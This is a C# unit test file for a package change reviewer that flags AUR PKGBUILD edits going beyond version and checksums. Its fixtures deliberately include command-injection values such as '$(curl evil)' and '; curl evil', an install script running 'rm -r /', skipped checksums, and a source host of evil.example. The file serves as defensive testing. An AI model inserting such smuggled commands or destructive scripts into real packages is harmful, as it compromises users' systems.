using System.Text;
using Quarters.Alpm;
using Quarters.Core.Sources;

namespace Quarters.Core.Tests.Sources;

public sealed class ChangeReviewTests
{
    private const string Pkgbuild = """
        pkgname=tool
        pkgver=1.2
        pkgrel=1
        arch=(any)
        install=tool.install
        source=("https://example.org/tool-$pkgver.tar.gz"
                fix.patch)
        sha256sums=('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
                    'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb')
        package() { make install; }
        """;

    private static ReviewedPackage Package(
        string text = Pkgbuild, string install = "post_install() { :; }", string patch = "patch", string? host = null,
        string? source = null)
    {
        TreeEntry File(string path, string content) => new(path, TreeEntryKind.File, Encoding.UTF8.GetBytes(content));
        var version = text.Contains("pkgver=1.3", StringComparison.Ordinal) ? "1.3" : "1.2";
        var skip = text.Contains("SKIP", StringComparison.Ordinal);
        var info = $"""
            pkgbase = tool
            	pkgver = {version}
            	pkgrel = 1
            	install = tool.install
            	arch = any
            	source = {source ?? $"{host ?? "https://example.org"}/tool-{version}.tar.gz"}
            	source = fix.patch
            	sha256sums = {(skip ? "SKIP" : "aa")}
            	sha256sums = bb

            pkgname = tool
            """;
        var tree = SourceTree.Create(
            [File("PKGBUILD", text), File("tool.install", install), File("fix.patch", patch)], TreeLimits.Default);
        return new ReviewedPackage(tree, SrcInfo.Parse(Encoding.UTF8.GetBytes(info)));
    }

    private static string Findings(ReviewedPackage now) =>
        string.Join("; ", ChangeReview.Findings(Package(), now, ReviewPolicy.Changes));

    private static string Changed(string from, string to)
    {
        Assert.Contains(from, Pkgbuild, StringComparison.Ordinal);
        return Pkgbuild.Replace(from, to, StringComparison.Ordinal);
    }

    [Fact]
    public void A_new_version_with_other_checksums_passes() => Assert.Empty(Findings(Package(
        Changed("pkgver=1.2", "pkgver='1.3'")
            .Replace(new string('a', 64), new string('c', 64), StringComparison.Ordinal)
            .Replace("pkgrel=1", "pkgrel=2", StringComparison.Ordinal))));

    [Theory]
    [InlineData("pkgver=1.2", "pkgver=$(curl evil)")]
    [InlineData("pkgver=1.2", "pkgver=1.3; curl evil")]
    [InlineData("'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'", "$(curl evil)")]
    [InlineData("('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'", "(")]
    [InlineData("make install", "make install; curl evil")]
    [InlineData("sha256sums", "md5sums")]
    public void Whatever_else_changes_in_the_PKGBUILD_is_seen(string from, string to) => Assert.Equal(
        "the PKGBUILD changed in more than version and checksums", Findings(Package(Changed(from, to))));

    private const string First = "1111111111111111111111111111111111111111";
    private const string Second = "2222222222222222222222222222222222222222";
    private const string Git = "tool::git+https://example.org/tool#";
    private const string Seen = "the PKGBUILD changed in more than version and checksums";

    [Theory]
    [InlineData("commit=" + First, "commit=" + Second, "")]
    [InlineData("revision=12", "revision=13", "")]
    [InlineData("commit=" + First, "branch=main", Seen)]
    [InlineData("commit=" + First, "commit=2222222", Seen)]
    [InlineData("commit=" + First, "commit=$(curl evil)", Seen)]
    [InlineData("tag=v1", "tag=v2", Seen)]
    [InlineData("revision=12", "revision=HEAD", Seen)]
    public void Another_commit_passes_as_another_checksum_does_and_what_may_move_does_not(
        string before, string now, string expected)
    {
        ReviewedPackage At(string pin) => Package(
            Changed("https://example.org/tool-$pkgver.tar.gz", Git + pin), source: Git + pin);

        Assert.Equal(expected, string.Join("; ", ChangeReview.Findings(At(before), At(now), ReviewPolicy.Changes)));
    }

    [Fact]
    public void A_checksum_that_is_skipped_is_seen() => Assert.Contains(
        "sha256sums does not check a file any more (SKIP)", Findings(Package(Changed(new string('a', 64), "SKIP"))),
        StringComparison.Ordinal);

    [Fact]
    public void An_install_script_that_changes_is_seen() => Assert.Equal(
        "the install script tool.install changed", Findings(Package(install: "post_install() { rm -r /; }")));

    [Fact]
    public void Any_other_file_that_changes_is_seen() =>
        Assert.Equal("the file fix.patch changed", Findings(Package(patch: "another")));

    [Fact]
    public void A_source_from_elsewhere_is_seen_though_only_a_variable_of_another_file_says_so() => Assert.Equal(
        "sources come from https://evil.example, from where none came before; "
        + "what the PKGBUILD says changed in more than version and checksums",
        string.Join("; ", ChangeReview.Findings(
            Package(), Package(Changed("pkgver=1.2", "pkgver=1.3"), host: "https://evil.example"),
            ReviewPolicy.Changes)));

    [Fact]
    public void What_is_new_is_seen_where_that_is_wanted()
    {
        Assert.Equal(["it is new here"], ChangeReview.Findings(null, Package(), ReviewPolicy.All));
        Assert.Empty(ChangeReview.Findings(null, Package(), ReviewPolicy.Changes));
        Assert.Empty(ChangeReview.Findings(Package(), Package(patch: "x"), ReviewPolicy.Off));
        Assert.Empty(ChangeReview.Findings(Package(), Package(), ReviewPolicy.All));
    }
}
